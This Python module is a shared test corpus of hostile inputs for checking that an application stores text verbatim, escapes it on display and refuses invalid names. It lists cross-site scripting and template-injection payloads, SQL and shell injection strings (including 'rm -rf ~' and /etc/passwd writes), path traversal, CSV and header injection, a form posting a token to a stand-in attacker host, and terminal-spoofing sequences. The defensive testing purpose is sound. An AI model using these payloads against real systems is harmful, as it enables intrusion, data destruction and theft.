"""What strangers send: the corpus that the tests of every surface share, as data.

`STORED` is text that any surface must take as it is, keep verbatim and show escaped.
`REFUSED_NAMES` is text that cannot be a name, with what the refusal must say.
"""

from __future__ import annotations

from collections.abc import Mapping

# Where a payload of the corpus runs, it leaves this in `window`; no page that shows it may have it.
CANARY = "__orchestrator_xss"
_RUN = f"window.{CANARY}=1"

# Markup and script: each runs if it is put into a page, an attribute or a script as it is.
XSS: Mapping[str, str] = {
    "script": f"<script>{_RUN}</script>",
    "script_closes_another": f"</script><script>{_RUN}</script>",
    "script_in_mixed_case": f"<ScRiPt>{_RUN}</sCrIpT>",
    "image": f"<img src=x onerror={_RUN}>",
    "image_in_attribute": f'"><img src=x onerror="{_RUN}">',
    "image_in_single_quotes": f"'><img src=x onerror='{_RUN}'>",
    "svg": f"<svg onload={_RUN}>",
    "svg_slashes": f"<svg/onload={_RUN}//",
    "details": f"<details open ontoggle={_RUN}>x</details>",
    "handler_in_attribute": f'" autofocus onfocus="{_RUN}" x="',
    "body": f"<body onload={_RUN}>",
    "iframe": f'<iframe srcdoc="<script>parent.{CANARY}=1</script>"></iframe>',
    "link": f'<a href="javascript:{_RUN}">x</a>',
    "address": f"javascript:{_RUN}",
    "data_address": f"data:text/html,<script>parent.{CANARY}=1</script>",
    "style": f"<style>@import 'javascript:{_RUN}';</style>",
    "base": '<base href="https://attacker.invalid/">',
    "meta": f'<meta http-equiv="refresh" content="0;url=javascript:{_RUN}">',
    "form": '<form action="https://attacker.invalid/"><input name="csrf_token"></form>',
    "textarea": f"</textarea><script>{_RUN}</script>",
    "title": f"</title><script>{_RUN}</script>",
    "comment": f"--><script>{_RUN}</script><!--",
    "entities": f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    "numbered_entities": f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    "wide_angles": f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    "script_string": f"';{_RUN};//",
    "script_double_string": f'";{_RUN};//',
    "script_template": f"`;{_RUN};//${{{_RUN}}}",
    "line_separator": f"\u2028{_RUN}\u2029",
    "htmx_load": f'<div hx-on:htmx:load="{_RUN}" hx-get="/" hx-trigger="load">x</div>',
    "htmx_vals": f"<div hx-vals=\"js:{{a:({_RUN})}}\" hx-get='/' hx-trigger='load'>x</div>",
    "jinja": "{{ 7 * 7 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "jinja_config": "{{ self.__init__.__globals__ }}",
}

# Text that commands an interpreter of another kind.
INJECTION: Mapping[str, str] = {
    "sql_comment": "'; drop schema orchestrator cascade; --",
    "sql_or": "' or '1'='1",
    "sql_dollar": "$$; select pg_sleep(5); $$",
    "sql_union": "x') union select digest from orchestrator.api_token --",
    "like": "%_%",
    "format_percent": "%s%(name)s%n%d",
    "format_braces": "{0.__class__.__init__.__globals__}",
    "shell": "$(touch /tmp/owned)`id`; rm -rf ~ & | > /etc/passwd",
    "path": "../../../../etc/passwd",
    "address": "postgresql://user:hunter2@host/db",
    "csv": "=cmd|' /C calc'!A0",
    "header": "x\r\nSet-Cookie: session=stolen\r\n\r\n<html>",
    "log_line": "done\n2026-01-01T00:00:00Z [error] forged line",
    "json": '","admin":true,"x":"',
    "rich": "[red]red[/red][link=file:///etc/passwd]x[/link]",
    "prometheus": 'a"} 1\nforged_metric{x="y"} 99\n#',
    "backslash": "\\",
    "quote": "\"'`",
}

# Text that moves a cursor, colours, hides or reorders.
TERMINAL: Mapping[str, str] = {
    "colour": "\x1b[31mred\x1b[0m",
    "clear": "\x1b[2J\x1b[H",
    "title": "\x1b]0;owned\x07",
    "clipboard": "\x1b]52;c;cm0gLXJm\x07",
    "csi_8_bit": "\x9b31m",
    "carriage_return": "good\rEVIL",
    "newline": "one\ntwo",
    "tab": "one\ttwo",
    "backspace": "safe\x08\x08\x08\x08evil",
    "delete": "a\x7fb",
    "bell": "\x07",
    "right_to_left": "\u202egnp.exe",
    "isolate": "\u2066abc\u2069",
    "zero_width": "ac\u200bme",
    "joiner": "ac\u200dme",
    "byte_order_mark": "\ufeffacme",
    "combining": "a" + "\u0301" * 60,
    "homoglyph": "\u0430cme",  # a Cyrillic a
    "composed": "caf\u00e9",
    "decomposed": "cafe\u0301",
    "emoji": "\U0001f469\u200d\U0001f4bb",
    "private_use": "\ue000",
    "noncharacter": "\uffff\U0010ffff",
    "only_spaces": "   ",
    "leading_space": " acme",
}

# Two names that are one to whatever cuts at PostgreSQL's 63 bytes, and one of the greatest length.
LONG: Mapping[str, str] = {
    "sixty_three_bytes_a": "q" * 63 + "a",
    "sixty_three_bytes_b": "q" * 63 + "b",
    "two_hundred_wide": "\U0001f600" * 200,
}

STORED: Mapping[str, str] = {**XSS, **INJECTION, **TERMINAL, **LONG}

REFUSED_NAMES: Mapping[str, tuple[str, str]] = {
    "empty": ("", "non-empty"),
    "too_long": ("x" * 201, "at most 200"),
    "a_million": ("x" * 1_000_000, "at most 200"),
    "nul": ("ac\0me", "NUL"),
    "only_nul": ("\0", "NUL"),
    "high_surrogate": ("ac\ud800me", "surrogate"),
    "low_surrogate": ("\udfff", "surrogate"),
    "reversed_pair": ("\udc00\ud800", "surrogate"),
}
